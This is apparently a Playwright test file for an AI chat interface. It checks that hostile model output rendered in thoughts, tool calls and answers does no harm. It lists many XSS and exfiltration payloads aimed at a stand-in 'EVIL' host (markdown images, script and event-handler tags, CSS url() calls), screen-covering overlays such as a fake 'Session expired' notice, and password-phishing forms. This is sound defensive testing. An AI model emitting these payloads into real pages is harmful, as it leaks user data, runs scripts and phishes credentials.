"""A model's text may be hostile: it calls nobody, covers nothing, and asks for nothing."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browser import Page, chromium  # noqa: F401
from fake_gemini import Call, FakeGemini, Think
from house import launched, loaded
from playwright.sync_api import Browser, expect

EVIL = "http://localhost:{port}"  # Another origin than the page's 127.0.0.1.

CALLS_OUT = [
    "![x](EVIL/md?secret)",
    "[![x](EVIL/md)](EVIL/link)",
    "![x][1]\n\n[1]: EVIL/reference",
    "<img src=EVIL/img>",
    "<img srcset='EVIL/srcset 1x'>",
    "<img src=x onerror=\"fetch('EVIL/onerror');window.xss=1\">",
    "<picture><source srcset=EVIL/source><img src=x></picture>",
    "<div style=\"background:url('EVIL/background')\">x</div>",
    '<div style="list-style-image:url(EVIL/list);display:list-item">x</div>',
    '<p style="border-image-source:url(EVIL/border)">x</p>',
    '<p style="content:url(EVIL/content)">x</p>',
    '<p style="cursor:url(EVIL/cursor),auto">x</p>',
    "<video src=EVIL/video autoplay></video>",
    "<video poster=EVIL/poster></video>",
    "<audio src=EVIL/audio autoplay></audio>",
    "<audio><source src=EVIL/audio-source></audio>",
    "<video><track src=EVIL/track default></video>",
    "<svg><image href=EVIL/svg-image /></svg>",
    "<svg><use href=EVIL/svg-use#x /></svg>",
    "<svg><feImage href=EVIL/fe-image /></svg>",
    "<style>@import url(EVIL/import); body{background:url(EVIL/style)}</style>",
    "<link rel=stylesheet href=EVIL/css>",
    "<link rel=prefetch href=EVIL/prefetch>",
    "<link rel=dns-prefetch href=EVIL/dns>",
    "<iframe src=EVIL/iframe></iframe>",
    "<iframe srcdoc='<img src=EVIL/srcdoc>'></iframe>",
    "<object data=EVIL/object></object>",
    "<embed src=EVIL/embed>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<base href=EVIL/base/>\n\n![x](relative)",
    "<script src=EVIL/script></script>",
    "<script>window.xss=1;fetch('EVIL/inline')</script>",
    "<svg onload=\"window.xss=1;fetch('EVIL/svg-onload')\"></svg>",
    '<details open ontoggle="window.xss=1">x</details>',
    "<input autofocus onfocus=\"window.xss=1;fetch('EVIL/focus')\">",
    "<body background=EVIL/body>",
    "<table background=EVIL/table><tr><td>x</table>",
    '<math href="javascript:window.xss=1">x</math>',
    "$\\includegraphics{EVIL/katex}$ $\\href{javascript:window.xss=1}{x}$",
    "$$\\htmlStyle{background:url(EVIL/html-style)}{x}$$",
    '```mermaid\ngraph TD; A["<img src=EVIL/mermaid>"]\n```',
    "<template><img src=EVIL/template></template>",
    "<noscript><img src=EVIL/noscript></noscript>",
    "<!--><img src=EVIL/comment>-->",
    "<a href=EVIL/ping ping=EVIL/ping>x</a>",
    "<img src=/chat/stream?query=paid-by-the-host>",
]

COVERS = [
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Session expired</div>",
    "<div style='position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px;"
    "z-index:99999;background:red'>x</div>",
    "<div class='fixed inset-0 z-50 bg-red-500'>x</div>",
    "<p style='margin:-3000px;padding:3000px;background:red;position:relative;z-index:9999'>x</p>",
    "<p style='transform:scale(500);background:red'>x</p>",
    "<p style='box-shadow:0 0 0 5000px red'>x</p>",
    "<p style='outline:5000px solid red'>x</p>",
    "<dialog open style='position:fixed;inset:0;width:100%;height:100%'>x</dialog>",
    "<div popover style='display:block;position:fixed;inset:0'>x</div>",
    "<svg style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>"
    "<rect width=9999 height=9999 fill=red /></svg>",
]

ASKS = [
    "<form action=EVIL/form><input type=password name=p><button>Log in</button></form>",
    "<form action=EVIL/form method=post>Key: <input name=key autofocus></form>",
    "<input type=password placeholder='Your password'>",
    "<textarea>Paste your key here</textarea>",
    "<select><option>Pay</select>",
    "<button formaction=EVIL/formaction form=f>Log in</button><form id=f></form>",
]

SEES = """() => {
    const on = selector => {
        const box = document.querySelector(selector).getBoundingClientRect()
        const seen = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)
        return seen !== null && seen.closest(selector) !== null
    }
    const asks = 'form, input:not([type=checkbox]), textarea, select'
    return {
        box: on('[data-testid=textbox]'),
        title: on('h1'),
        asks: [...document.querySelectorAll('[role=log] :is(' + asks + ')')]
            .filter(field => field.checkVisibility()).length,
        ran: window.xss ?? null,
    }
}"""

UNHARMED = {"box": True, "title": True, "asks": 0, "ran": None}


class Elsewhere:
    """Another origin, which nobody may call."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = EVIL.format(port=self._server.server_port)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


def look(city: str) -> dict[str, str]:
    """Look at a city."""
    return {"seen": city}


@pytest.fixture(scope="module")
def page(fake: FakeGemini, chromium: Browser) -> Iterator[Page]:  # noqa: F811
    with launched(loaded(tools=[look])) as url:
        tab = chromium.new_page()
        yield Page(tab).open(url)
        tab.close()


def say_everywhere(page: Page, gemini: FakeGemini, payload: str) -> None:
    """Have it thought, given to a tool, answered by it, and said; wait until it is all rendered.

    The picture behind it is of our own server: once that is asked for, so is all before it.
    """
    if page.texts():
        page.clear()
    gemini.reset()
    gemini.enqueue(Think(payload), Call("look", {"city": payload}))
    gemini.enqueue(f"{payload}\n\n![end](/theme.css?the-end)")
    with page.tab.expect_request("**/theme.css?the-end"):
        page.send("Go on")
    page.wait_idle()
    for title in page.tab.locator(".thought-group .title").all():
        title.click()
    page.tab.evaluate("() => new Promise(requestAnimationFrame)")


@pytest.mark.parametrize("payload", [*CALLS_OUT, *COVERS, *ASKS])
def test_whatever_a_model_says_does_no_harm(
    page: Page, fake: FakeGemini, elsewhere: Elsewhere, payload: str
) -> None:
    home = page.tab.url
    say_everywhere(page, fake, payload.replace("EVIL", elsewhere.url))
    assert page.tab.evaluate(SEES) == UNHARMED
    assert (elsewhere.asked, page.tab.url, len(page.tab.context.pages)) == ([], home, 1)
    assert len(fake.requests) == 2


def test_a_link_opens_elsewhere_and_tells_nobody_from_where(
    page: Page, fake: FakeGemini, elsewhere: Elsewhere
) -> None:
    say_everywhere(page, fake, f"[Read this]({elsewhere.url}/read)")
    with page.tab.context.expect_page() as opened:
        page.tab.get_by_role("link", name="Read this").last.click()
    assert opened.value.evaluate("document.referrer") == ""
    opened.value.close()
    assert elsewhere.asked[0] == "/read"
    elsewhere.asked.clear()


def test_the_bait_would_be_taken_without_a_shield(chromium: Browser, elsewhere: Elsewhere) -> None:  # noqa: F811
    tab = chromium.new_page()
    tab.set_content(f"<img src={elsewhere.url}/bait>")
    with tab.expect_request_finished():
        tab.set_content(f"<img src={elsewhere.url}/bait>")
    expect(tab.locator("img")).to_be_attached()
    tab.close()
    assert "/bait" in elsewhere.asked
    elsewhere.asked.clear()
